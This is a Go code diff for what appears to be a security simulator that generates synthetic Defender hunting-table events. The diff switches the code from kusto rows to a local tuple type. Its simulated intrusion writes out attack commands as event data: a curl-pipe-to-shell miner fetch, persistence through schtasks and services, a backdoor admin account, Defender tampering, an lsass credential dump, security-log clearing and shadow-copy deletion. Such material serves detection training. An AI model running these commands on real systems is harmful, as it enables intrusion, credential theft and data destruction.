@@ -10,47 +10,54 @@ import (
 	"strings"
 	"time"
 	"unicode/utf16"
-
-	"xsoar-defender/internal/simulator/kusto"
 )
 
-// events are what happened on the machines, by the table that hunting finds it in.
-type events map[string][]kusto.Row
+// tuple is a row of a table by column; a column without a value is null, or empty if it holds text.
+type tuple map[string]any
 
-// table is a table of the hunting schema with its rows.
-func (c *company) table(name string) (kusto.Table, bool) {
-	r := kusto.Table{Columns: columnsOf(name)}
+// events are what happened on the machines, by the table that hunting finds it in.
+type events map[string][]tuple
+
+// table returns the rows of a table of the hunting schema, or false if there is no such table.
+func (c *company) table(name string) ([]tuple, bool) {
+	if _, known := huntingSchemas()[name]; !known {
+		return nil, false
+	}
 	switch name {
 	case "DeviceInfo":
-		r.Rows = each(c.machines, c.deviceInfo)
+		return each(c.machines, c.deviceInfo), true
 	case "DeviceNetworkInfo":
-		r.Rows = each(c.machines, c.deviceNetworkInfo)
+		return each(c.machines, c.deviceNetworkInfo), true
 	case "DeviceTvmSoftwareInventory":
-		r.Rows = slices.Concat(each(c.machines, softwareRows)...)
+		return slices.Concat(each(c.machines, softwareRows)...), true
 	case "DeviceTvmSoftwareVulnerabilities":
-		r.Rows = slices.Concat(each(c.machines, vulnerabilityRows)...)
+		return slices.Concat(each(c.machines, vulnerabilityRows)...), true
+	case "DeviceTvmSoftwareVulnerabilitiesKB":
+		return c.knownVulnerabilities(), true
+	case "DeviceTvmSecureConfigurationAssessment":
+		return slices.Concat(each(c.machines, c.settingRows)...), true
+	case "DeviceTvmSecureConfigurationAssessmentKB":
+		return knownSettings(), true
 	case "AlertInfo":
-		r.Rows = each(c.alerts, alertRow)
+		return each(c.alerts, alertRow), true
 	case "AlertEvidence":
-		r.Rows = slices.Concat(each(c.alerts, evidenceRows)...)
-	default:
-		r.Rows = c.happened()[name]
+		return slices.Concat(each(c.alerts, evidenceRows)...), true
 	}
-	return r, len(r.Columns) > 0
+	return c.happened()[name], true
 }
 
-func (c *company) deviceInfo(m *machine) kusto.Row {
+func (c *company) deviceInfo(m *machine) tuple {
 	kind := "Workstation"
 	if strings.HasPrefix(m.OSPlatform, "WindowsServer") || m.OSPlatform == ubuntu.platform && m.owner == nil {
 		kind = "Server"
 	}
-	t := kusto.Row{
+	t := tuple{
 		"Timestamp": m.LastSeen.Time, "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "ClientVersion": string(m.AgentVersion),
 		"PublicIP": string(m.LastExternalIPAddress), "OSArchitecture": m.OSArchitecture, "OSPlatform": m.OSPlatform,
 		"IsAzureADJoined": m.IsAADJoined, "AadDeviceId": string(m.AADDeviceID), "OSVersion": m.Version,
 		"MachineGroup": string(m.RBACGroupName), "ReportId": int64(638_000_000_000_000_001), "OnboardingStatus": m.OnboardingStatus,
 		"DeviceCategory": "Endpoint", "DeviceType": kind, "SensorHealthState": m.HealthStatus, "ExposureLevel": m.ExposureLevel,
-		"AssetValue": m.DeviceValue, "DeviceManualTags": kusto.Text(each(m.MachineTags, func(s string) any { return s })),
+		"AssetValue": m.DeviceValue, "DeviceManualTags": jsonText(m.MachineTags),
 		"IsInternetFacing": slices.Contains(m.MachineTags, "Internet facing"), "IsExcluded": m.IsExcluded,
 	}
 	if m.OSBuild != nil {
@@ -65,8 +72,8 @@ func (c *company) deviceInfo(m *machine) kusto.Row {
 // jsonText writes what a column of text holds as JSON.
 func jsonText(v any) string { return string(must(json.Marshal(v))) }
 
-func (c *company) deviceNetworkInfo(m *machine) kusto.Row {
-	return kusto.Row{
+func (c *company) deviceNetworkInfo(m *machine) tuple {
+	return tuple{
 		"Timestamp": m.LastSeen.Time, "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "NetworkAdapterName": "Ethernet",
 		"MacAddress": string(m.IPAddresses[0].MACAddress), "NetworkAdapterType": "Ethernet", "NetworkAdapterStatus": "Up",
 		"IPAddresses": jsonText(each(m.IPAddresses, func(a ipAddress) record { return record{{"IPAddress", a.IPAddress}} })),
@@ -74,9 +81,9 @@ func (c *company) deviceNetworkInfo(m *machine) kusto.Row {
 	}
 }
 
-func softwareRows(m *machine) []kusto.Row {
-	return each(m.installed, func(i installation) kusto.Row {
-		return kusto.Row{
+func softwareRows(m *machine) []tuple {
+	return each(m.installed, func(i installation) tuple {
+		return tuple{
 			"DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "OSPlatform": m.OSPlatform, "OSVersion": m.Version,
 			"OSArchitecture": m.OSArchitecture, "SoftwareVendor": i.product.vendor, "SoftwareName": i.product.name,
 			"SoftwareVersion": i.product.versions[i.version],
@@ -84,9 +91,9 @@ func softwareRows(m *machine) []kusto.Row {
 	})
 }
 
-func vulnerabilityRows(m *machine) []kusto.Row {
-	return each(vulnerabilitiesOf(m), func(v machineVulnerability) kusto.Row {
-		return kusto.Row{
+func vulnerabilityRows(m *machine) []tuple {
+	return each(vulnerabilitiesOf(m), func(v machineVulnerability) tuple {
+		return tuple{
 			"DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "OSPlatform": m.OSPlatform, "OSVersion": m.Version,
 			"OSArchitecture": m.OSArchitecture, "SoftwareVendor": v.ProductVendor, "SoftwareName": v.ProductName,
 			"SoftwareVersion": v.ProductVersion, "CveId": v.CVEID, "VulnerabilitySeverityLevel": v.Severity,
@@ -95,17 +102,17 @@ func vulnerabilityRows(m *machine) []kusto.Row {
 	})
 }
 
-func alertRow(a *alert) kusto.Row {
-	return kusto.Row{
+func alertRow(a *alert) tuple {
+	return tuple{
 		"Timestamp": a.AlertCreationTime.Time, "AlertId": a.ID, "Title": a.Title, "Category": a.Category, "Severity": a.Severity,
 		"ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": a.DetectionSource,
 		"AttackTechniques": jsonText(a.MITRETechniques),
 	}
 }
 
-func evidenceRows(a *alert) []kusto.Row {
-	return each(a.Evidence, func(e evidence) kusto.Row {
-		return kusto.Row{
+func evidenceRows(a *alert) []tuple {
+	return each(a.Evidence, func(e evidence) tuple {
+		return tuple{
 			"Timestamp": a.AlertCreationTime.Time, "AlertId": a.ID, "Title": a.Title, "Severity": a.Severity,
 			"Categories": jsonText([]string{a.Category}), "AttackTechniques": jsonText(a.MITRETechniques),
 			"ServiceSource": "Microsoft Defender for Endpoint", "DetectionSource": a.DetectionSource,
@@ -123,10 +130,11 @@ func evidenceRows(a *alert) []kusto.Row {
 // happened are the events, made when they are first asked for.
 func (c *company) happened() events {
 	if c.events == nil {
-		h := &history{company: c, draws: newSource(c.seed, "events"), events: events{}, reports: map[string]int64{}}
+		h := &history{company: c, draws: newSource(c.seed, "events"), events: events{}, reports: map[string]int64{}, columns: map[string]map[string]bool{}}
 		h.everyday()
 		h.detected()
 		h.intrusion()
+		h.office()
 		c.events = h.events
 	}
 	return c.events
@@ -137,7 +145,8 @@ type history struct {
 	company *company
 	draws   source
 	events  events
-	reports map[string]int64 // the last report id, by machine
+	reports map[string]int64           // the last report id, by machine
+	columns map[string]map[string]bool // by table, for append
 }
 
 // process is a process that something is done by.
@@ -152,9 +161,9 @@ type process struct {
 }
 
 // record adds an event, of no action in a table that has none. DeviceEvents does not know the rights of who acted.
-func (h *history) record(table string, m *machine, when time.Time, action string, by *process, details kusto.Row) {
+func (h *history) record(table string, m *machine, when time.Time, action string, by *process, details tuple) {
 	h.reports[m.ID] += 1 + h.draws.Int64N(7)
-	t := kusto.Row{
+	t := tuple{
 		"Timestamp": when.UTC().Truncate(tick), "DeviceId": m.ID, "DeviceName": m.ComputerDNSName, "ReportId": h.reports[m.ID],
 	}
 	if by != nil {
@@ -171,8 +180,8 @@ func (h *history) record(table string, m *machine, when time.Time, action string
 }
 
 // asActor are the columns of the process that did something.
-func (p *process) asActor() kusto.Row {
-	t := kusto.Row{
+func (p *process) asActor() tuple {
+	t := tuple{
 		"InitiatingProcessFileName": p.file.name, "InitiatingProcessFolderPath": p.file.folder,
 		"InitiatingProcessSHA1": p.file.SHA1, "InitiatingProcessSHA256": p.file.SHA256, "InitiatingProcessMD5": p.file.MD5,
 		"InitiatingProcessFileSize": p.file.Size, "InitiatingProcessVersionInfoCompanyName": string(p.file.FilePublisher),
@@ -194,16 +203,16 @@ func (p *process) asActor() kusto.Row {
 func (p *process) uniqueID() int64 { return 1<<54 + p.id }
 
 // asFile are the columns of the file that something was done with.
-func (f *file) asFile() kusto.Row {
-	return kusto.Row{
+func (f *file) asFile() tuple {
+	return tuple{
 		"FileName": f.name, "FolderPath": f.folder, "SHA1": f.SHA1, "SHA256": f.SHA256, "MD5": f.MD5, "FileSize": f.Size,
 	}
 }
 
 // asCreated are the columns of a process that was created.
-func (p *process) asCreated() kusto.Row {
+func (p *process) asCreated() tuple {
 	t := p.file.asFile()
-	maps.Copy(t, kusto.Row{
+	maps.Copy(t, tuple{
 		"ProcessId": p.id, "ProcessCommandLine": p.command, "ProcessCreationTime": p.created, "ProcessIntegrityLevel": p.rights,
 		"ProcessTokenElevation":         "TokenElevationTypeDefault",
 		"ProcessVersionInfoCompanyName": string(p.file.FilePublisher), "ProcessVersionInfoProductName": string(p.file.FileProductName),
@@ -258,7 +267,7 @@ func (h *history) everyday() {
 		program := h.start(n.machine, n.time.Add(-time.Second), n.process, n.process, "Medium", h.shell(n.machine, n.time, who), who)
 		h.connected(n.machine, n.time, program, n.ip, n.port, n.host)
 		if n.host != "" && n.machine.isWindows() {
-			h.record("DeviceEvents", n.machine, n.time.Add(-time.Millisecond), "DnsQueryResponse", program, kusto.Row{
+			h.record("DeviceEvents", n.machine, n.time.Add(-time.Millisecond), "DnsQueryResponse", program, tuple{
 				"AdditionalFields": jsonText(record{{"DnsQueryString", n.host}, {"DnsQueryType", 1}, {"DnsQueryResult", jsonText([]record{{{"Result", n.ip}}})}}),
 			})
 		}
@@ -267,7 +276,7 @@ func (h *history) everyday() {
 		for i := range 3 {
 			when := l.last.Add(-time.Duration(i) * (day + h.draws.span(5*day)))
 			kind, _, _ := strings.Cut(l.kinds, ",")
-			details := kusto.Row{
+			details := tuple{
 				"LogonType": kind, "AccountDomain": l.user.AccountDomain, "AccountName": l.user.AccountName,
 				"AccountSid": l.user.AccountSID, "IsLocalAdmin": l.user.IsDomainAdmin, "LogonId": int64(1<<53 + 1 + i), "Protocol": "Kerberos",
 			}
@@ -281,7 +290,7 @@ func (h *history) everyday() {
 		if s.file.DeterminationType == "Clean" && !h.draws.chance(20) {
 			continue
 		}
-		h.record("DeviceFileCertificateInfo", s.machine, s.last, "", nil, kusto.Row{
+		h.record("DeviceFileCertificateInfo", s.machine, s.last, "", nil, tuple{
 			"SHA1": s.file.SHA1, "IsSigned": s.file.Signer != "", "IsTrusted": s.file.Signer != "" && s.file.DeterminationType == "Clean",
 			"Signer": string(s.file.Signer), "SignerHash": string(s.file.SignerHash), "Issuer": string(s.file.Issuer),
 			"IsRootSignerMicrosoft": s.file.Signer == optional(microsoft.name),
@@ -295,7 +304,7 @@ func (h *history) connected(m *machine, when time.Time, by *process, ip string, 
 	if address, err := netip.ParseAddr(ip); err == nil && address.IsPrivate() {
 		kind = "Private"
 	}
-	h.record("DeviceNetworkEvents", m, when, "ConnectionSuccess", by, kusto.Row{
+	h.record("DeviceNetworkEvents", m, when, "ConnectionSuccess", by, tuple{
 		"RemoteIP": ip, "RemotePort": int64(port), "RemoteUrl": host, "LocalIP": m.LastIPAddress,
 		"LocalPort": 49152 + h.draws.Int64N(16000), "Protocol": "Tcp", "LocalIPType": "Private", "RemoteIPType": kind,
 	})
@@ -329,7 +338,7 @@ func (h *history) detected() {
 
 // registryChanged adds a change of a registry value.
 func (h *history) registryChanged(m *machine, when time.Time, by *process, key, name, data, before string) {
-	h.record("DeviceRegistryEvents", m, when, "RegistryValueSet", by, kusto.Row{
+	h.record("DeviceRegistryEvents", m, when, "RegistryValueSet", by, tuple{
 		"RegistryKey": key, "RegistryValueName": name, "RegistryValueData": data, "RegistryValueType": "String",
 		"PreviousRegistryKey": key, "PreviousRegistryValueName": name, "PreviousRegistryValueData": before,
 	})
@@ -373,9 +382,9 @@ func (h *history) intrusion() {
 	h.coverUp(laptop, elevated, who, next)
 
 	miner := h.start(web, next(), "bash", "bash -c 'curl -s http://"+miningHost+"/i | sh'", "", h.shell(web, begin, c.userOf(web)), c.userOf(web))
-	h.record("DeviceFileEvents", web, next(), "FileCreated", miner, kusto.Row{"FileName": "update.timer", "FolderPath": "/etc/systemd/system"})
-	h.record("DeviceFileEvents", web, next(), "FileModified", miner, kusto.Row{"FileName": "hosts", "FolderPath": "/etc", "FileSize": int64(312)})
-	h.record("DeviceFileEvents", web, next(), "FileModified", miner, kusto.Row{"FileName": "ls", "FolderPath": "/usr/bin", "FileSize": int64(142144)})
+	h.record("DeviceFileEvents", web, next(), "FileCreated", miner, tuple{"FileName": "update.timer", "FolderPath": "/etc/systemd/system"})
+	h.record("DeviceFileEvents", web, next(), "FileModified", miner, tuple{"FileName": "hosts", "FolderPath": "/etc", "FileSize": int64(312)})
+	h.record("DeviceFileEvents", web, next(), "FileModified", miner, tuple{"FileName": "ls", "FolderPath": "/usr/bin", "FileSize": int64(142144)})
 }
 
 // hostNamed finds a machine by the first part of its name.
@@ -390,36 +399,36 @@ func (c *company) hostNamed(host string) *machine {
 func (h *history) persist(m *machine, by *process, who *user, next func() time.Time) {
 	const implant = `C:\ProgramData\UpdateHelper\updater_helper.exe`
 	h.start(m, next(), "schtasks.exe", `schtasks /create /sc minute /mo 15 /tn "Update Helper" /tr `+implant, "High", by, who)
-	h.record("DeviceEvents", m, next(), "ScheduledTaskCreated", by, kusto.Row{"AdditionalFields": jsonText(record{{"TaskName", `\Update Helper`}})})
+	h.record("DeviceEvents", m, next(), "ScheduledTaskCreated", by, tuple{"AdditionalFields": jsonText(record{{"TaskName", `\Update Helper`}})})
 	h.registryChanged(m, next(), by, `HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "UpdateHelper", implant, "")
 	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\UpdHlp`, "ImagePath", implant+" /svc", "")
 	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Spooler`, "ImagePath", implant, `C:\Windows\System32\spoolsv.exe`)
 	h.start(m, next(), "sc.exe", "sc create UpdHlp binPath= "+implant+" start= auto", "High", by, who)
-	h.record("DeviceEvents", m, next(), "ServiceInstalled", by, kusto.Row{
+	h.record("DeviceEvents", m, next(), "ServiceInstalled", by, tuple{
 		"FileName": "updater_helper.exe", "FolderPath": `C:\ProgramData\UpdateHelper`, "ProcessCommandLine": implant + " /svc",
 		"AdditionalFields": jsonText(record{{"ServiceName", "UpdHlp"}, {"ServiceAccount", "LocalSystem"}}),
 	})
 	h.start(m, next(), "net1.exe", "net1 user helpdesk2 P@ss /add", "High", by, who)
-	created := kusto.Row{"AccountDomain": strings.SplitN(m.ComputerDNSName, ".", 2)[0], "AccountName": "helpdesk2", "AccountSid": "S-1-5-21-2000478354-1708537768-1957994488-1009"}
+	created := tuple{"AccountDomain": strings.SplitN(m.ComputerDNSName, ".", 2)[0], "AccountName": "helpdesk2", "AccountSid": "S-1-5-21-2000478354-1708537768-1957994488-1009"}
 	h.record("DeviceEvents", m, next(), "UserAccountCreated", by, created)
 	added := maps.Clone(created)
 	added["AdditionalFields"] = jsonText(record{{"GroupName", "Administrators"}, {"GroupDomainName", "Builtin"}, {"GroupSid", "S-1-5-32-544"}})
 	h.record("DeviceEvents", m, next(), "UserAccountAddedToLocalGroup", by, added)
 	h.start(m, next(), "net1.exe", "net1 localgroup Administrators helpdesk2 /add", "High", by, who)
-	h.record("DeviceEvents", m, next(), "SecurityGroupCreated", by, kusto.Row{
+	h.record("DeviceEvents", m, next(), "SecurityGroupCreated", by, tuple{
 		"AdditionalFields": jsonText(record{{"GroupName", "Helpers"}, {"GroupDomainName", accountDomain}, {"GroupSid", "S-1-5-21-2000478354-1708537768-1957994488-1010"}}),
 	})
-	h.record("DeviceFileEvents", m, next(), "FileCreated", by, kusto.Row{
+	h.record("DeviceFileEvents", m, next(), "FileCreated", by, tuple{
 		"FileName": "helper.lnk", "FolderPath": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup`, "FileSize": int64(1432),
 	})
-	h.record("DeviceFileEvents", m, next(), "FileModified", by, kusto.Row{"FileName": "version.dll", "FolderPath": `C:\Program Files\PuTTY`, "FileSize": int64(90112)})
-	h.record("DeviceFileEvents", m, next(), "FileModified", by, kusto.Row{"FileName": "hosts", "FolderPath": `C:\Windows\System32\drivers\etc`, "FileSize": int64(1044)})
+	h.record("DeviceFileEvents", m, next(), "FileModified", by, tuple{"FileName": "version.dll", "FolderPath": `C:\Program Files\PuTTY`, "FileSize": int64(90112)})
+	h.record("DeviceFileEvents", m, next(), "FileModified", by, tuple{"FileName": "hosts", "FolderPath": `C:\Windows\System32\drivers\etc`, "FileSize": int64(1044)})
 }
 
 func (h *history) tamper(m *machine, by *process, who *user, next func() time.Time) {
 	h.start(m, next(), "powershell.exe", `powershell.exe Add-MpPreference -ExclusionPath C:\ProgramData`, "High", by, who)
 	h.registryChanged(m, next(), by, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths`, `C:\ProgramData`, "0", "")
-	h.record("DeviceEvents", m, next(), "TamperingAttempt", by, kusto.Row{
+	h.record("DeviceEvents", m, next(), "TamperingAttempt", by, tuple{
 		"RegistryKey": `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "RegistryValueName": "DisableAntiSpyware", "RegistryValueData": "1",
 	})
 	h.start(m, next(), "netsh.exe", `netsh advfirewall firewall add rule name="Updates" dir=in action=allow protocol=TCP localport=4444`, "High", by, who)
@@ -431,11 +440,11 @@ func (h *history) steal(m *machine, by *process, who *user, next func() time.Tim
 	opened := h.company.fileNamed("lsass.exe").asFile()
 	opened["AdditionalFields"] = jsonText(record{{"DesiredAccess", 2097151}})
 	h.record("DeviceEvents", m, next(), "OpenProcessApiCall", dumper, opened)
-	h.record("DeviceFileEvents", m, next(), "FileCreated", dumper, kusto.Row{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
+	h.record("DeviceFileEvents", m, next(), "FileCreated", dumper, tuple{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
 	h.record("DeviceImageLoadEvents", m, next(), "ImageLoaded", dumper, h.company.fileNamed("mimi.dll").asFile())
-	h.record("DeviceFileEvents", m, next(), "FileCreated", by, kusto.Row{"FileName": "finance-2026.7z", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(9_007_199_254_740_993)})
-	h.record("DeviceEvents", m, next(), "SensitiveFileRead", by, kusto.Row{"FileName": "salaries.xlsx", "FolderPath": `\\fs-01\finance`})
-	h.record("DeviceEvents", m, next(), "ScreenshotTaken", by, kusto.Row{})
+	h.record("DeviceFileEvents", m, next(), "FileCreated", by, tuple{"FileName": "finance-2026.7z", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(9_007_199_254_740_993)})
+	h.record("DeviceEvents", m, next(), "SensitiveFileRead", by, tuple{"FileName": "salaries.xlsx", "FolderPath": `\\fs-01\finance`})
+	h.record("DeviceEvents", m, next(), "ScreenshotTaken", by, tuple{})
 }
 
 // beacon calls home every five minutes, a few seconds early or late.
@@ -455,7 +464,7 @@ func (h *history) spreadOut(m, target *machine, by *process, who *user, next fun
 	desktop := h.start(m, next(), "mstsc.exe", "mstsc.exe /v:dc-01", "Medium", by, who)
 	h.connected(m, next(), desktop, target.LastIPAddress, 3389, target.ComputerDNSName)
 	admin := c.userNamed("adm-eriksen")
-	h.record("DeviceLogonEvents", target, next(), "LogonSuccess", nil, kusto.Row{
+	h.record("DeviceLogonEvents", target, next(), "LogonSuccess", nil, tuple{
 		"LogonType": "RemoteInteractive", "AccountDomain": admin.AccountDomain, "AccountName": admin.AccountName, "AccountSid": admin.AccountSID,
 		"IsLocalAdmin": true, "LogonId": int64(1<<53 + 3), "Protocol": "NTLM", "RemoteIP": m.LastIPAddress, "RemoteIPType": "Private",
 		"RemoteDeviceName": m.ComputerDNSName,
@@ -466,7 +475,7 @@ func (h *history) spreadOut(m, target *machine, by *process, who *user, next fun
 
 func (h *history) coverUp(m *machine, by *process, who *user, next func() time.Time) {
 	h.start(m, next(), "wevtutil.exe", "wevtutil.exe cl Security", "High", by, who)
-	h.record("DeviceEvents", m, next(), "SecurityLogCleared", by, kusto.Row{"AccountDomain": who.AccountDomain, "AccountName": who.AccountName, "AccountSid": who.AccountSID})
-	h.record("DeviceFileEvents", m, next(), "FileDeleted", by, kusto.Row{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
+	h.record("DeviceEvents", m, next(), "SecurityLogCleared", by, tuple{"AccountDomain": who.AccountDomain, "AccountName": who.AccountName, "AccountSid": who.AccountSID})
+	h.record("DeviceFileEvents", m, next(), "FileDeleted", by, tuple{"FileName": "lsass.dmp", "FolderPath": `C:\Windows\Temp`, "FileSize": int64(54_525_952)})
 	h.start(m, next(), "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "High", by, who)
 }
